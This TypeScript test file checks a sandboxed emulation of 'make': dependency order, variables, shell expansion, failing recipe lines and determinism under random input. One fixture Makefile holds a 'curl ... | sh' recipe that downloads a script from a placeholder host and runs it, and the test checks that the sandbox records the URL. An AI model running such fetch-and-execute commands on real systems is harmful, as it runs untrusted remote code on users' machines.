import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { runGuest } from "../../../test/run-guest.ts";
import { createWorld } from "../../worlds/worlds.ts";

async function make(makefile: string, command: string = "make"): Promise<string> {
  const { printed } = await runGuest(
    `require("child_process").exec(${JSON.stringify(command)}, (error, out) => console.log((error ? "failed " : "") + out.trim()));`,
    { world: createWorld("linux-laptop", Date.UTC(2026, 10, 17, 9)), files: { Makefile: makefile } },
  );
  return printed.join("\n").trim();
}

describe("make", () => {
  test.each([
    ["the first target", ".PHONY: all\nall:\n\t@echo built\nother:\n\t@echo no\n", "make", "built"],
    [
      "what it needs before",
      "all: one two\n\t@echo all\none:\n\t@echo 1\ntwo: one\n\t@echo 2\n",
      "make -s",
      "1\n2\nall",
    ],
    ["a target by its name", "all:\n\t@echo no\nsetup: ; @echo yes\n", "make setup", "yes"],
    ["variables", "A = x\nB := $(A)y\nall:\n\t@echo $(B) ${C} $$HOME\n", "make C=z", "xy z /home/lena"],
    ["what a shell prints", "H = $(shell echo aGk= | base64 -d)\nall:\n\t@echo $(H) $@\n", "make", "hi all"],
    ["lines that go on", "all:\n\t@echo a \\\n\t  b\n", "make", "a b"],
    [
      "the line before one that fails",
      "all:\n\t-false\n\t@echo on\n\tfalse\n\t@echo no\n",
      "make",
      "failed on",
    ],
    ["a loop of targets but once", "a: b\n\t@echo a\nb: a\n\t@echo b\n", "make", "b\na"],
    ["nothing of what is no makefile", "echo hello\n", "make", ""],
  ])("does %s", async (_, makefile, command, expected) => {
    expect(await make(makefile, command)).toBe(expected);
  });

  test("goes to the folder that it is told", async () => {
    const { observations } = await runGuest(`require("child_process").execSync("make -C src fetch");`, {
      world: createWorld("linux-laptop", Date.UTC(2026, 10, 17, 9)),
      files: { "src/Makefile": "fetch:\n\tcurl -fsS http://make.invalid/b.sh | sh\n" },
    });

    expect(observations.map(({ data }) => data["url"])).toContain("http://make.invalid/b.sh");
  });

  test("ends with any makefile, and the same each time", async () => {
    const pieces = fc
      .array(
        fc.constantFrom("a", "b:", ":", "=", "\n", "\t", "$(", ")", "$(a)", "$$", "shell ", "\\\n", "@", "#"),
        { maxLength: 30 },
      )
      .map((parts) => parts.join(""));

    await fc.assert(
      fc.asyncProperty(pieces, async (makefile) => {
        expect(await make(makefile)).toBe(await make(makefile));
      }),
      { numRuns: 12 },
    );
  });
});
